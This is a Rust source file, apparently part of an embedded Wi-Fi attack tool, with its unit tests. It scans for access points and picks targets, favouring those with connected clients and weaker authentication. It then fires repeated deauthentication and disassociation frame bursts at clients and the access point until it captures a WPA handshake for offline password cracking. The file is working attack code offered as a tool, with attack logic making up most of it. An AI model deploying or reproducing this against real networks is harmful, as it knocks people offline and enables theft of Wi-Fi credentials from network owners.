/// Active attack scheduler.
///
/// Scans, ranks what it found, locks onto one AP, listens for clients, then
/// sends deauth/disassoc bursts until a handshake completes or the attack
/// times out. A short wait afterwards catches late M3/M4 from a client that
/// reconnected. With nothing left worth attacking it gets bored: slow hops
/// and a periodic rescan.
use core::cmp::Reverse;

use log::{debug, info, warn};

use crate::config::EngineConfig;
use crate::defaults::*;
use crate::radio::{build_kick, Kick, Radio};
use crate::skiplist::SkipList;
use crate::store::{Network, NetworkStore, Stores};
use crate::types::{elapsed_ms, AuthMode, Interval, MacAddr};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackState {
    Scanning,
    NextTarget,
    /// Listening on the target's channel for clients
    Locking,
    Attacking,
    /// Holding the channel for late handshake messages
    Waiting,
    Bored,
}

impl AttackState {
    pub fn as_str(&self) -> &'static str {
        match self {
            AttackState::Scanning => "scanning",
            AttackState::NextTarget => "next_target",
            AttackState::Locking => "locking",
            AttackState::Attacking => "attacking",
            AttackState::Waiting => "waiting",
            AttackState::Bored => "bored",
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AbandonReason {
    Skipped,
    Pmf,
    /// Target vanished from the network store
    Lost,
}

/// Scheduler transitions worth telling the user about.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ActiveEvent {
    Locked { bssid: MacAddr, channel: u8 },
    Abandoned { bssid: MacAddr, reason: AbandonReason },
    Finished { bssid: MacAddr, captured: bool },
    Bored,
}

/// The AP currently being worked on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Target {
    pub bssid: MacAddr,
    pub channel: u8,
    pub locked_at: u32,
    pub attack_started: u32,
    last_burst: Option<u32>,
}

// ── Target selection ───────────────────────────────────────────────────

/// Networks worth attacking at all.
pub fn is_eligible(net: &Network, skiplist: &SkipList) -> bool {
    !skiplist.contains(&net.bssid) && !net.pmf_required && net.auth != AuthMode::Open && !net.handshake_captured
}

/// Sort key, smallest first: clients, then weaker auth, then fewer
/// attempts, then stronger signal.
pub type PriorityKey = (Reverse<bool>, u8, u8, Reverse<i8>);

pub fn priority(net: &Network) -> PriorityKey {
    (
        Reverse(net.has_clients()),
        net.auth.weakness_rank(),
        net.attack_attempts,
        Reverse(net.rssi),
    )
}

/// Three passes over eligible networks: clients and few attempts, then
/// any network barely tried, then anything with clients.
pub fn select_target(networks: &NetworkStore, skiplist: &SkipList) -> Option<MacAddr> {
    let passes: [fn(&Network) -> bool; 3] = [
        |n| n.has_clients() && n.attack_attempts < RETRY_WITH_CLIENTS,
        |n| n.attack_attempts < RETRY_ANY,
        |n| n.has_clients(),
    ];
    passes.iter().find_map(|pass| {
        networks
            .iter()
            .filter(|n| is_eligible(n, skiplist) && pass(n))
            .min_by_key(|n| priority(n))
            .map(|n| n.bssid)
    })
}

// ── Scheduler ──────────────────────────────────────────────────────────

pub struct ActiveAttack {
    state: AttackState,
    state_since: u32,
    index: usize,
    last_hop: u32,
    target: Option<Target>,
    failures: u8,
    wait_extended: bool,
    seq: u16,
    frames_sent: u32,
    cleanup: Interval,
}

impl ActiveAttack {
    pub const fn new() -> Self {
        Self {
            state: AttackState::Scanning,
            state_since: 0,
            index: 0,
            last_hop: 0,
            target: None,
            failures: 0,
            wait_extended: false,
            seq: 0,
            frames_sent: 0,
            cleanup: Interval::new(ACTIVE_CLEANUP_MS),
        }
    }

    /// Reset and start scanning from the first channel.
    pub fn start(&mut self, now: u32, radio: &mut impl Radio) {
        *self = Self::new();
        self.cleanup.reset(now);
        self.set_state(AttackState::Scanning, now);
        self.tune(now, radio);
    }

    pub fn state(&self) -> AttackState {
        self.state
    }

    pub fn target(&self) -> Option<&Target> {
        self.target.as_ref()
    }

    pub fn failures(&self) -> u8 {
        self.failures
    }

    pub fn frames_sent(&self) -> u32 {
        self.frames_sent
    }

    pub fn channel(&self) -> u8 {
        match self.target {
            Some(t) if matches!(self.state, AttackState::Locking | AttackState::Attacking | AttackState::Waiting) => {
                t.channel
            }
            _ => ACTIVE_CHANNEL_ORDER[self.index],
        }
    }

    pub fn cleanup_due(&mut self, now: u32) -> bool {
        self.cleanup.due(now)
    }

    /// The user skip-listed `bssid`. Drops it as target right away.
    pub fn on_skip(&mut self, bssid: &MacAddr, now: u32) -> Option<ActiveEvent> {
        if self.target.map(|t| t.bssid) != Some(*bssid) {
            return None;
        }
        Some(self.abandon(AbandonReason::Skipped, now))
    }

    pub fn tick(
        &mut self,
        now: u32,
        radio: &mut impl Radio,
        stores: &mut Stores,
        skiplist: &SkipList,
        config: &EngineConfig,
    ) -> Option<ActiveEvent> {
        let in_state = elapsed_ms(now, self.state_since);
        match self.state {
            AttackState::Scanning => {
                if elapsed_ms(now, self.last_hop) >= config.hop_interval_ms {
                    self.hop(now, radio);
                }
                if in_state < config.scan_duration_ms {
                    return None;
                }
                if stores.networks.iter().any(|n| is_eligible(n, skiplist)) {
                    self.set_state(AttackState::NextTarget, now);
                    None
                } else {
                    debug!("active: scan found nothing eligible");
                    self.fail(now)
                }
            }
            AttackState::NextTarget => match select_target(&stores.networks, skiplist) {
                Some(bssid) => self.lock(bssid, now, radio, &stores.networks),
                None => self.fail(now),
            },
            AttackState::Locking => {
                if let Some(event) = self.check_target(now, stores, skiplist) {
                    return Some(event);
                }
                if in_state >= config.lock_time_ms {
                    let target = self.target.as_mut()?;
                    target.attack_started = now;
                    if let Some(net) = stores.networks.get_mut(&target.bssid) {
                        net.attack_attempts = net.attack_attempts.saturating_add(1);
                        info!(
                            "active: attacking {} \"{}\" ({} clients, attempt {})",
                            net.bssid,
                            net.ssid,
                            net.clients.len(),
                            net.attack_attempts
                        );
                    }
                    self.set_state(AttackState::Attacking, now);
                }
                None
            }
            AttackState::Attacking => self.attack(now, radio, stores, skiplist, config),
            AttackState::Waiting => {
                if let Some(event) = self.check_target(now, stores, skiplist) {
                    return Some(event);
                }
                let target = self.target?;
                let hold = if self.wait_extended { WAIT_MS + WAIT_EXTENSION_MS } else { WAIT_MS };
                if in_state < hold {
                    return None;
                }
                if !self.wait_extended && stores.handshakes.m1_without_m2(&target.bssid) {
                    debug!("active: M1 without M2 from {}, waiting longer", target.bssid);
                    self.wait_extended = true;
                    return None;
                }
                let captured = stores.handshakes.has_complete(&target.bssid);
                if captured {
                    if let Some(net) = stores.networks.get_mut(&target.bssid) {
                        net.handshake_captured = true;
                    }
                }
                self.target = None;
                self.set_state(AttackState::NextTarget, now);
                Some(ActiveEvent::Finished {
                    bssid: target.bssid,
                    captured,
                })
            }
            AttackState::Bored => {
                if elapsed_ms(now, self.last_hop) >= BORED_HOP_MS {
                    self.hop(now, radio);
                }
                if select_target(&stores.networks, skiplist).is_some() || in_state >= BORED_RETRY_MS {
                    info!("active: rescanning");
                    self.failures = 0;
                    self.set_state(AttackState::Scanning, now);
                }
                None
            }
        }
    }

    fn attack(
        &mut self,
        now: u32,
        radio: &mut impl Radio,
        stores: &mut Stores,
        skiplist: &SkipList,
        config: &EngineConfig,
    ) -> Option<ActiveEvent> {
        if let Some(event) = self.check_target(now, stores, skiplist) {
            return Some(event);
        }
        let target = self.target?;
        if stores.handshakes.has_complete(&target.bssid) {
            info!("active: handshake from {}", target.bssid);
            self.enter_waiting(now);
            return None;
        }
        if elapsed_ms(now, target.attack_started) >= ATTACK_TIMEOUT_MS {
            debug!("active: attack on {} timed out", target.bssid);
            self.enter_waiting(now);
            return None;
        }
        if target
            .last_burst
            .is_some_and(|at| elapsed_ms(now, at) < ATTACK_INTERVAL_MS)
        {
            return None;
        }

        let net = stores.networks.get(&target.bssid)?;
        if net.pmf_required {
            return Some(self.abandon(AbandonReason::Pmf, now));
        }
        if config.deauth_enabled {
            let sent = self.burst(radio, net, config);
            debug!("active: burst of {} frames at {}", sent, net.bssid);
        }
        if let Some(t) = self.target.as_mut() {
            t.last_burst = Some(now);
        }
        None
    }

    /// Targeted bursts to up to [`MAX_BURST_CLIENTS`] clients in both
    /// directions, or a broadcast burst when no client is known.
    fn burst(&mut self, radio: &mut impl Radio, net: &Network, config: &EngineConfig) -> usize {
        let bssid = net.bssid;
        let mut sent = 0;
        for _ in 0..config.burst_count {
            if net.clients.is_empty() {
                sent += self.send(radio, Kick::Deauth, MacAddr::BROADCAST, bssid, bssid, config);
                sent += self.send(radio, Kick::Disassoc, MacAddr::BROADCAST, bssid, bssid, config);
                continue;
            }
            for client in net.clients.iter().take(MAX_BURST_CLIENTS) {
                let sta = client.mac;
                sent += self.send(radio, Kick::Deauth, sta, bssid, bssid, config);
                sent += self.send(radio, Kick::Deauth, bssid, sta, bssid, config);
                sent += self.send(radio, Kick::Disassoc, sta, bssid, bssid, config);
                sent += self.send(radio, Kick::Disassoc, bssid, sta, bssid, config);
            }
        }
        sent
    }

    fn send(
        &mut self,
        radio: &mut impl Radio,
        kind: Kick,
        da: MacAddr,
        sa: MacAddr,
        bssid: MacAddr,
        config: &EngineConfig,
    ) -> usize {
        let reason = match kind {
            Kick::Deauth => REASON_DEAUTH,
            Kick::Disassoc => REASON_DISASSOC,
        };
        let frame = build_kick(kind, da, sa, bssid, reason, self.seq);
        self.seq = (self.seq + 1) & 0x0FFF;
        let ok = radio.transmit_raw(&frame);
        let jitter_max = config.jitter_max_us.min(MAX_JITTER_US);
        if jitter_max > 0 {
            let jitter = radio.random_u32() % (jitter_max + 1);
            radio.delay_us(jitter);
        }
        if ok {
            self.frames_sent = self.frames_sent.wrapping_add(1);
            1
        } else {
            warn!("active: driver refused {:?} to {}", kind, da);
            0
        }
    }

    /// Common checks while a target is held: still known, not skipped.
    fn check_target(&mut self, now: u32, stores: &Stores, skiplist: &SkipList) -> Option<ActiveEvent> {
        let bssid = self.target?.bssid;
        if skiplist.contains(&bssid) {
            return Some(self.abandon(AbandonReason::Skipped, now));
        }
        if !stores.networks.contains(&bssid) {
            return Some(self.abandon(AbandonReason::Lost, now));
        }
        None
    }

    fn lock(&mut self, bssid: MacAddr, now: u32, radio: &mut impl Radio, networks: &NetworkStore) -> Option<ActiveEvent> {
        let channel = networks.get(&bssid)?.channel;
        radio.set_channel(channel);
        self.failures = 0;
        self.wait_extended = false;
        self.target = Some(Target {
            bssid,
            channel,
            locked_at: now,
            attack_started: now,
            last_burst: None,
        });
        self.set_state(AttackState::Locking, now);
        info!("active: locked {} on ch {}", bssid, channel);
        Some(ActiveEvent::Locked { bssid, channel })
    }

    fn abandon(&mut self, reason: AbandonReason, now: u32) -> ActiveEvent {
        let bssid = self.target.take().map(|t| t.bssid).unwrap_or(MacAddr::ZERO);
        info!("active: dropping {} ({:?})", bssid, reason);
        self.set_state(AttackState::NextTarget, now);
        ActiveEvent::Abandoned { bssid, reason }
    }

    fn enter_waiting(&mut self, now: u32) {
        self.wait_extended = false;
        self.set_state(AttackState::Waiting, now);
    }

    fn fail(&mut self, now: u32) -> Option<ActiveEvent> {
        self.failures = self.failures.saturating_add(1);
        if self.failures >= FAILURE_LIMIT {
            info!("active: nothing to attack, bored");
            self.set_state(AttackState::Bored, now);
            Some(ActiveEvent::Bored)
        } else {
            self.set_state(AttackState::Scanning, now);
            None
        }
    }

    fn hop(&mut self, now: u32, radio: &mut impl Radio) {
        self.index = (self.index + 1) % ACTIVE_CHANNEL_ORDER.len();
        self.tune(now, radio);
    }

    fn tune(&mut self, now: u32, radio: &mut impl Radio) {
        radio.set_channel(ACTIVE_CHANNEL_ORDER[self.index]);
        self.last_hop = now;
    }

    fn set_state(&mut self, state: AttackState, now: u32) {
        if self.state != state {
            debug!("active: {} -> {}", self.state.as_str(), state.as_str());
        }
        self.state = state;
        self.state_since = now;
    }
}

impl Default for ActiveAttack {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::{KeyMessage, NetworkInfo};
    use crate::radio::DEAUTH_FRAME_LEN;
    use crate::testutil::*;
    use crate::types::Ssid;

    fn mac(n: u8) -> MacAddr {
        MacAddr([0x02, 0, 0, 0, 0, n])
    }

    fn add(stores: &mut Stores, bssid: MacAddr, auth: AuthMode, clients: u8, attempts: u8) {
        let info = NetworkInfo {
            bssid,
            ssid: Ssid::from_bytes(b"net").unwrap(),
            channel: Some(6),
            auth,
            pmf_required: false,
            pmf_capable: false,
            probe_response: false,
        };
        stores.networks.upsert(&info, 6, -60, 0).unwrap();
        let net = stores.networks.get_mut(&bssid).unwrap();
        net.attack_attempts = attempts;
        for i in 0..clients {
            net.observe_client(MacAddr([0x12, 0, 0, 0, bssid.0[5], i]), -50, 0);
        }
    }

    fn config() -> EngineConfig {
        EngineConfig {
            jitter_max_us: 100,
            ..EngineConfig::new()
        }
    }

    struct Rig {
        attack: ActiveAttack,
        radio: FakeRadio,
        stores: Stores,
        skiplist: SkipList,
        config: EngineConfig,
        now: u32,
    }

    impl Rig {
        fn new() -> Self {
            let mut radio = FakeRadio::new();
            let mut attack = ActiveAttack::new();
            attack.start(0, &mut radio);
            Self {
                attack,
                radio,
                stores: Stores::new(),
                skiplist: SkipList::new(),
                config: config(),
                now: 0,
            }
        }

        fn tick_at(&mut self, now: u32) -> Option<ActiveEvent> {
            self.now = now;
            self.attack
                .tick(now, &mut self.radio, &mut self.stores, &self.skiplist, &self.config)
        }

        /// Tick every 10 ms until `until`, collecting events.
        fn run_until(&mut self, until: u32) -> std::vec::Vec<ActiveEvent> {
            let mut events = std::vec::Vec::new();
            while self.now < until {
                let now = self.now + 10;
                events.extend(self.tick_at(now));
            }
            events
        }

        /// Scan, select and lock; returns the locked BSSID.
        fn lock(&mut self) -> MacAddr {
            let events = self.run_until(self.config.scan_duration_ms + 20);
            match events.last() {
                Some(ActiveEvent::Locked { bssid, .. }) => *bssid,
                other => panic!("expected lock, got {:?}", other),
            }
        }

        fn attack(&mut self) -> MacAddr {
            let bssid = self.lock();
            self.run_until(self.now + self.config.lock_time_ms + 10);
            assert_eq!(self.attack.state(), AttackState::Attacking);
            bssid
        }
    }

    // ── Selection ──────────────────────────────────────────────────────

    #[test]
    fn clients_with_few_attempts_come_first() {
        let mut stores = Stores::new();
        add(&mut stores, mac(0xA), AuthMode::Wpa2, 0, 0);
        add(&mut stores, mac(0xB), AuthMode::Wpa2, 2, 0);
        add(&mut stores, mac(0xC), AuthMode::Wpa2, 2, 3);
        assert_eq!(select_target(&stores.networks, &SkipList::new()), Some(mac(0xB)));
    }

    #[test]
    fn later_passes_pick_retried_networks() {
        let mut stores = Stores::new();
        add(&mut stores, mac(1), AuthMode::Wpa2, 0, 2);
        add(&mut stores, mac(2), AuthMode::Wpa2, 2, 3);
        assert_eq!(select_target(&stores.networks, &SkipList::new()), Some(mac(2)));

        let mut stores = Stores::new();
        add(&mut stores, mac(1), AuthMode::Wpa2, 0, 2);
        assert_eq!(select_target(&stores.networks, &SkipList::new()), None);
    }

    #[test]
    fn priority_orders_auth_attempts_then_signal() {
        let mut stores = Stores::new();
        add(&mut stores, mac(1), AuthMode::Wpa2, 0, 0);
        add(&mut stores, mac(2), AuthMode::Wpa, 0, 1);
        add(&mut stores, mac(3), AuthMode::Wpa3, 0, 0);
        assert_eq!(select_target(&stores.networks, &SkipList::new()), Some(mac(2)));

        let mut stores = Stores::new();
        add(&mut stores, mac(1), AuthMode::Wpa2, 0, 1);
        add(&mut stores, mac(2), AuthMode::Wpa2, 0, 0);
        add(&mut stores, mac(3), AuthMode::Wpa2, 0, 0);
        stores.networks.get_mut(&mac(3)).unwrap().rssi = -30;
        assert_eq!(select_target(&stores.networks, &SkipList::new()), Some(mac(3)));
    }

    #[test]
    fn ineligible_networks_are_never_selected() {
        let mut stores = Stores::new();
        add(&mut stores, mac(1), AuthMode::Open, 3, 0);
        add(&mut stores, mac(2), AuthMode::Wpa2, 3, 0);
        add(&mut stores, mac(3), AuthMode::Wpa2, 3, 0);
        add(&mut stores, mac(4), AuthMode::Wpa2, 3, 0);
        stores.networks.get_mut(&mac(2)).unwrap().pmf_required = true;
        stores.networks.get_mut(&mac(3)).unwrap().handshake_captured = true;
        let mut skiplist = SkipList::new();
        skiplist.add(mac(4), Ssid::new()).unwrap();
        assert_eq!(select_target(&stores.networks, &skiplist), None);
    }

    // ── State machine ──────────────────────────────────────────────────

    #[test]
    fn scan_hops_then_locks_and_listens() {
        let mut rig = Rig::new();
        add(&mut rig.stores, AP, AuthMode::Wpa2, 1, 0);
        rig.run_until(1_000);
        assert_eq!(rig.attack.state(), AttackState::Scanning);
        assert!(rig.radio.channel_changes >= 2);

        assert_eq!(rig.lock(), AP);
        assert_eq!(rig.radio.channel, 6);
        assert_eq!(rig.attack.state(), AttackState::Locking);
        rig.run_until(rig.now + rig.config.lock_time_ms - 20);
        assert!(rig.radio.transmitted.is_empty(), "locking never transmits");
        assert_eq!(rig.stores.networks.get(&AP).unwrap().attack_attempts, 0);
    }

    #[test]
    fn bursts_are_bidirectional_per_client() {
        let mut rig = Rig::new();
        add(&mut rig.stores, AP, AuthMode::Wpa2, 2, 0);
        rig.attack();
        assert_eq!(rig.stores.networks.get(&AP).unwrap().attack_attempts, 1);

        let burst = rig.config.burst_count as usize;
        assert_eq!(rig.radio.transmitted.len(), burst * 2 * 4);
        let sta = rig.stores.networks.get(&AP).unwrap().clients[0].mac;
        let first: std::vec::Vec<_> = rig.radio.transmitted[..4].to_vec();
        assert!(first.iter().all(|f| f.len() == DEAUTH_FRAME_LEN));
        assert_eq!((first[0][0], &first[0][4..10], &first[0][10..16]), (0xC0, &sta.0[..], &AP.0[..]));
        assert_eq!((first[1][0], &first[1][4..10], &first[1][10..16]), (0xC0, &AP.0[..], &sta.0[..]));
        assert_eq!(first[2][0], 0xA0);
        assert_eq!(first[3][0], 0xA0);
        assert!(rig.radio.delayed_us <= 100 * rig.radio.transmitted.len() as u64);

        // sequence numbers advance per frame
        let seq = |f: &[u8]| u16::from_le_bytes([f[22], f[23]]) >> 4;
        assert_eq!(seq(&rig.radio.transmitted[1]), seq(&rig.radio.transmitted[0]) + 1);

        // next burst only after the interval
        rig.run_until(rig.now + ATTACK_INTERVAL_MS - 20);
        assert_eq!(rig.radio.transmitted.len(), burst * 8);
        rig.run_until(rig.now + 30);
        assert_eq!(rig.radio.transmitted.len(), burst * 16);
    }

    #[test]
    fn oversized_jitter_is_clamped() {
        let mut rig = Rig::new();
        rig.config.jitter_max_us = u32::MAX;
        add(&mut rig.stores, AP, AuthMode::Wpa2, 2, 0);
        rig.attack();
        rig.run_until(rig.now + 200);
        let frames = rig.radio.transmitted.len() as u64;
        assert!(frames > 0);
        assert!(rig.radio.delayed_us <= MAX_JITTER_US as u64 * frames);
    }

    #[test]
    fn client_count_per_burst_is_capped() {
        let mut rig = Rig::new();
        add(&mut rig.stores, AP, AuthMode::Wpa2, 6, 0);
        rig.attack();
        assert_eq!(rig.radio.transmitted.len(), rig.config.burst_count as usize * MAX_BURST_CLIENTS * 4);
    }

    #[test]
    fn broadcast_burst_without_clients() {
        let mut rig = Rig::new();
        add(&mut rig.stores, AP, AuthMode::Wpa2, 0, 0);
        rig.attack();
        assert_eq!(rig.radio.transmitted.len(), rig.config.burst_count as usize * 2);
        assert!(rig.radio.transmitted.iter().all(|f| f[4..10] == MacAddr::BROADCAST.0));
    }

    #[test]
    fn deauth_disabled_stays_silent() {
        let mut rig = Rig::new();
        rig.config.deauth_enabled = false;
        add(&mut rig.stores, AP, AuthMode::Wpa2, 2, 0);
        rig.attack();
        rig.run_until(rig.now + 3_000);
        assert!(rig.radio.transmitted.is_empty());
    }

    #[test]
    fn pmf_target_is_abandoned_without_transmitting() {
        let mut rig = Rig::new();
        add(&mut rig.stores, AP, AuthMode::Wpa2, 2, 0);
        rig.lock();
        rig.stores.networks.get_mut(&AP).unwrap().pmf_required = true;
        let events = rig.run_until(rig.now + rig.config.lock_time_ms + 20);
        assert!(events.contains(&ActiveEvent::Abandoned {
            bssid: AP,
            reason: AbandonReason::Pmf
        }));
        assert!(rig.radio.transmitted.is_empty());
        assert_ne!(rig.attack.target().map(|t| t.bssid), Some(AP));
    }

    #[test]
    fn skip_mid_attack_moves_on_and_excludes_for_good() {
        let mut rig = Rig::new();
        add(&mut rig.stores, AP, AuthMode::Wpa2, 2, 0);
        add(&mut rig.stores, mac(9), AuthMode::Wpa2, 0, 0);
        assert_eq!(rig.attack(), AP);

        rig.skiplist.add(AP, Ssid::new()).unwrap();
        let event = rig.attack.on_skip(&AP, rig.now);
        assert_eq!(
            event,
            Some(ActiveEvent::Abandoned {
                bssid: AP,
                reason: AbandonReason::Skipped
            })
        );
        assert_eq!(rig.attack.state(), AttackState::NextTarget);

        let events = rig.run_until(rig.now + 100);
        assert_eq!(events[0], ActiveEvent::Locked { bssid: mac(9), channel: 6 });
        assert_eq!(select_target(&rig.stores.networks, &rig.skiplist), Some(mac(9)));
        rig.stores.networks.get_mut(&mac(9)).unwrap().handshake_captured = true;
        assert_eq!(select_target(&rig.stores.networks, &rig.skiplist), None);
    }

    #[test]
    fn skip_list_checked_every_tick_too() {
        let mut rig = Rig::new();
        add(&mut rig.stores, AP, AuthMode::Wpa2, 2, 0);
        rig.attack();
        rig.skiplist.add(AP, Ssid::new()).unwrap();
        let event = rig.tick_at(rig.now + 10);
        assert!(matches!(event, Some(ActiveEvent::Abandoned { reason: AbandonReason::Skipped, .. })));
    }

    #[test]
    fn handshake_completion_waits_then_marks_captured() {
        let mut rig = Rig::new();
        add(&mut rig.stores, AP, AuthMode::Wpa2, 1, 0);
        rig.attack();
        for m in [KeyMessage::M1, KeyMessage::M2] {
            rig.stores.handshakes.record(AP, STA, m, &eapol_key(m, None), rig.now).unwrap();
        }
        rig.tick_at(rig.now + 10);
        assert_eq!(rig.attack.state(), AttackState::Waiting);
        let sent = rig.radio.transmitted.len();

        let events = rig.run_until(rig.now + WAIT_MS + 10);
        assert!(events.contains(&ActiveEvent::Finished { bssid: AP, captured: true }));
        assert!(rig.stores.networks.get(&AP).unwrap().handshake_captured);
        assert_eq!(rig.radio.transmitted.len(), sent, "no bursts while waiting");
    }

    #[test]
    fn wait_extends_once_for_unanswered_m1() {
        let mut rig = Rig::new();
        add(&mut rig.stores, AP, AuthMode::Wpa2, 1, 0);
        rig.attack();
        let started = rig.now;
        rig.run_until(started + ATTACK_TIMEOUT_MS + 10);
        assert_eq!(rig.attack.state(), AttackState::Waiting);
        rig.stores
            .handshakes
            .record(AP, STA, KeyMessage::M1, &eapol_key(KeyMessage::M1, None), rig.now)
            .unwrap();

        let waiting_since = rig.now;
        rig.run_until(waiting_since + WAIT_MS + 100);
        assert_eq!(rig.attack.state(), AttackState::Waiting, "extended");
        let events = rig.run_until(waiting_since + WAIT_MS + WAIT_EXTENSION_MS + 20);
        assert!(events.contains(&ActiveEvent::Finished { bssid: AP, captured: false }));
        assert!(!rig.stores.networks.get(&AP).unwrap().handshake_captured);
    }

    #[test]
    fn empty_scans_get_bored_until_something_appears() {
        let mut rig = Rig::new();
        let events = rig.run_until(3 * rig.config.scan_duration_ms + 50);
        assert_eq!(events, [ActiveEvent::Bored]);
        assert_eq!(rig.attack.state(), AttackState::Bored);

        let hops = rig.radio.channel_changes;
        rig.run_until(rig.now + BORED_HOP_MS + 10);
        assert_eq!(rig.radio.channel_changes, hops + 1, "slow hops while bored");

        add(&mut rig.stores, AP, AuthMode::Wpa2, 0, 0);
        rig.tick_at(rig.now + 10);
        assert_eq!(rig.attack.state(), AttackState::Scanning);
        assert_eq!(rig.attack.failures(), 0);
    }

    #[test]
    fn bored_retries_after_timeout() {
        let mut rig = Rig::new();
        rig.run_until(3 * rig.config.scan_duration_ms + 50);
        let bored_at = rig.now;
        rig.run_until(bored_at + BORED_RETRY_MS + 10);
        assert_eq!(rig.attack.state(), AttackState::Scanning);
    }

    #[test]
    fn vanished_target_is_dropped() {
        let mut rig = Rig::new();
        add(&mut rig.stores, AP, AuthMode::Wpa2, 1, 0);
        rig.lock();
        rig.stores.networks.clear();
        let event = rig.tick_at(rig.now + 10);
        assert_eq!(
            event,
            Some(ActiveEvent::Abandoned {
                bssid: AP,
                reason: AbandonReason::Lost
            })
        );
    }
}
